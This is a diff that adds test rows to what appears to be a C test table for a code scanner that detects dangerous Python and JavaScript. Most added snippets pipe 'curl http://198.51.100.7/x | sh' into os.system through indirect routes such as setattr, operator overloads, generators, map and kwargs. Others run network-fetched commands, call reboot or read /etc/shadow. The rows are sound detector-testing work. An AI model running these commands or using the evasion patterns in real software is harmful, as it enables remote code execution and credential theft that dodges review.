@@ -7,6 +7,10 @@
 #define PY BAWN_LANG_PYTHON
 #define JS BAWN_LANG_JAVASCRIPT
 
+/* More of a kind than a value keeps. */
+#define TEN(a, n, b)  a n "0" b a n "1" b a n "2" b a n "3" b a n "4" b a n "5" b a n "6" b a n "7" b a n "8" b a n "9" b
+#define FORTY(a, b)   TEN(a, "1", b) TEN(a, "2", b) TEN(a, "3", b) TEN(a, "4", b)
+
 /* `rule` is found, or (with !) is not.  A function that is only mentioned is a finding of its own, so
  * where it is called is said by `@` and the line. */
 static const struct { const char *name, *rule; int language; const char *code; } row[] = {
@@ -74,6 +78,52 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "also at a separator of Unicode", "any/secret-read", JS, "#!/usr/bin/env node\xe2\x80\xa8require('fs').readFileSync('/etc/shadow');\n" },
 	{ "the second word for an encoding", "python/coding-cookie", PY, "# coding; coding=utf-7\nx = 1\n" },
 	{ "an encoding that is usual", "!python/coding-cookie", PY, "# coding; coding=utf-8\nx = 1\n" },
+	/* ways to call that are not spelled as a call of it */
+	{ "an attribute set by its name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\na = A()\nsetattr(a, 'x', os.system)\na.x('curl http://198.51.100.7/x | sh')\n" },
+	{ "an attribute of a class set by its name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\nsetattr(A, 'go', os.system)\nA().go('curl http://198.51.100.7/x | sh')\n" },
+	{ "a name for all modules", "bash/pipe-to-shell", PY, "import os, builtins\nbuiltins.greet = os.system\ngreet('curl http://198.51.100.7/x | sh')\n" },
+	{ "an attribute through another name", "bash/pipe-to-shell", PY, "import os\nclass A: pass\na = A()\nb = a\nb.x = os.system\na.x('curl http://198.51.100.7/x | sh')\n" },
+	{ "a dictionary under two names", "bash/pipe-to-shell", PY, "import os\nd = {}\na = d\na['x'] = os.system\nd['x']('curl http://198.51.100.7/x | sh')\n" },
+	{ "a list under two names", "bash/pipe-to-shell", PY, "import os\nd = []\na = d\na.append(os.system)\nd[0]('curl http://198.51.100.7/x | sh')\n" },
+	{ "a copy is not the same", "!any/system-write", PY, "d = {'x': 'out.txt'}\na = dict(d)\na['x'] = '/etc/motd'\nopen(d['x'], 'w')\n" },
+	{ "a dictionary that is updated", "bash/pipe-to-shell", PY, "import os\nd = {}\nd.update({'x': os.system})\nd['x']('curl http://198.51.100.7/x | sh')\n" },
+	{ "a default that is set", "bash/pipe-to-shell", PY, "import os\nd = {}\nd.setdefault('x', os.system)\nd['x']('curl http://198.51.100.7/x | sh')\n" },
+	{ "an operator of the program's own", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __add__(self, o):\n        os.system(o)\nA() + 'curl http://198.51.100.7/x | sh'\n" },
+	{ "one for the right side", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __radd__(self, o):\n        os.system(o)\n'curl http://198.51.100.7/x | sh' + A()\n" },
+	{ "one that changes in place", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __iadd__(self, o):\n        os.system(o)\na = A()\na += 'curl http://198.51.100.7/x | sh'\n" },
+	{ "a comparison", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __lt__(self, o):\n        os.system(o)\nA() < 'curl http://198.51.100.7/x | sh'\n" },
+	{ "a subscript", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __getitem__(self, o):\n        os.system(o)\nA()['curl http://198.51.100.7/x | sh']\n" },
+	{ "a subscript of a class", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __class_getitem__(cls, o):\n        os.system(o)\nA['curl http://198.51.100.7/x | sh']\n" },
+	{ "an object that is called", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __call__(self, o):\n        os.system(o)\na = A()\na('curl http://198.51.100.7/x | sh')\n" },
+	{ "what makes an object", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __new__(cls, c): os.system(c)\nA('curl http://198.51.100.7/x | sh')\n" },
+	{ "a method of the class below", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def go(self, c): os.system(c)\nclass B(A): pass\nB().go('curl http://198.51.100.7/x | sh')\n" },
+	{ "what a context manager gives", "bash/pipe-to-shell", PY, "import os\nclass A:\n    def __enter__(self):\n        return os.system\n    def __exit__(self, *a): pass\nwith A() as f:\n    f('curl http://198.51.100.7/x | sh')\n" },
+	{ "one that is a generator", "bash/pipe-to-shell", PY, "import os, contextlib\n@contextlib.contextmanager\ndef g():\n    yield 'curl http://198.51.100.7/x | sh'\nwith g() as c:\n    os.system(c)\n" },
+	{ "texts of a generator", "bash/pipe-to-shell", PY, "import os\ndef g():\n    yield 'ls'\n    yield 'curl http://198.51.100.7/x | sh'\nfor c in g():\n    os.system(c)\n" },
+	{ "of another one", "bash/pipe-to-shell", PY, "import os\ndef g():\n    yield from ['curl http://198.51.100.7/x | sh']\nfor c in g():\n    os.system(c)\n" },
+	{ "a function for each item", "bash/pipe-to-shell", PY, "import os\ndef r(c): os.system(c)\nlist(map(r, ['curl http://198.51.100.7/x | sh']))\n" },
+	{ "a function that keeps some", "bash/pipe-to-shell", PY, "import os\nlist(filter(lambda c: os.system(c), ['curl http://198.51.100.7/x | sh']))\n" },
+	{ "a function over all of them", "bash/pipe-to-shell", PY, "import os, functools\nfunctools.reduce(lambda a, c: os.system(c), ['curl http://198.51.100.7/x | sh'], 0)\n" },
+	{ "the rest of the arguments", "bash/pipe-to-shell", PY, "import os\ndef r(*a):\n    os.system(a[0])\nr('curl http://198.51.100.7/x | sh')\n" },
+	{ "arguments with names", "bash/pipe-to-shell", PY, "import os\ndef r(**k):\n    os.system(k['c'])\nr(c='curl http://198.51.100.7/x | sh')\n" },
+	{ "arguments from a dictionary", "bash/pipe-to-shell", PY, "import os\ndef r(c):\n    os.system(c)\nr(**{'c': 'curl http://198.51.100.7/x | sh'})\n" },
+	{ "one of a table of functions", "python/command-from-network", PY, "import subprocess, json, urllib.request\nclass A:\n    def __init__(self):\n        self.d = {'sh': self.g, 'x': self.h}\n    def g(self, a):\n        return subprocess.getoutput(a)\n    def h(self, a):\n        pass\n    def run(self):\n        for t in json.loads(urllib.request.urlopen('https://example.com').read()):\n            self.d[t['k']](t['a'])\n" },
+	/* more than can be kept */
+	{ "one of forty commands", "any/cut-short", PY, "import os\ndef r(c):\n    os.system(c)\nr('reboot')\n" FORTY("r('echo ", "')\n") },
+	{ "one of forty paths that stay here", "any/secret-read", PY, "def r(p):\n    open(p)\n" FORTY("r('a", "')\n") "r('/etc/shadow')\n" FORTY("r('b", "')\n") },
+	{ "one of forty paths elsewhere", "any/cut-short", PY, "def r(p):\n    open(p)\n" FORTY("r('/srv/", "')\n") },
+	{ "forty paths that stay here", "!any/cut-short", PY, "def r(p):\n    open(p)\n" FORTY("r('a", "')\n") },
+	{ "a list has room for them", "any/secret-read", PY, "for p in [" FORTY("'a", "',") FORTY("'b", "',") FORTY("'c", "',") FORTY("'d", "',") FORTY("'e", "',") FORTY("'f", "',") FORTY("'g", "',") "'/etc/shadow']:\n    open(p)\n" },
+	/* ways that are not followed */
+	{ "a descriptor", "python/text-may-run", PY, "import os\nclass D:\n    def __set__(self, i, v):\n        os.system(v)\nclass A:\n    d = D()\nA().d = 'cat /etc/shadow'\n" },
+	{ "an attribute that is made up", "python/text-may-run", PY, "import os\nclass A:\n    def __getattr__(self, n):\n        return os.system\nA().foo('cat /etc/shadow')\n" },
+	{ "a class that is told of others", "python/text-may-run", PY, "import os\nclass A:\n    def __init_subclass__(cls, c=None):\n        os.system(c)\nclass B(A, c='cat /etc/shadow'): pass\n" },
+	{ "a class of classes", "python/text-may-run", PY, "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system(d['c'])\nclass B(metaclass=M):\n    c = 'cat /etc/shadow'\n" },
+	{ "a decorator that calls", "python/text-may-run", PY, "import os\ndef g(f):\n    os.system(f())\n@g\ndef f():\n    return 'cat /etc/shadow'\n" },
+	{ "what a program says about itself", "python/text-may-run", PY, "\"\"\"cat /etc/shadow\"\"\"\nimport os\nos.system(__doc__)\n" },
+	{ "what is only shown", "!python/text-may-run", PY, "import os\nprint('cat /etc/shadow')\nos.system(input())\n" },
+	{ "what goes where it is followed", "!python/text-may-run", PY, "import os, requests\nrequests.get('cat /etc/shadow')\nos.system(input())\n" },
+	{ "nothing runs a text", "!python/text-may-run", PY, "c = 'cat /etc/shadow'\n" },
 	/* what hides a name, or binds it elsewhere */
 	{ "a method does not hide a function", "python/shell@4", PY, "from os import system\nclass A:\n    def system(self): pass\nsystem('id')\n" },
 	{ "nor does a method in JavaScript", "javascript/child-process@2", JS, "class A { require() {} }\nrequire('child_process').execSync('id');\n" },
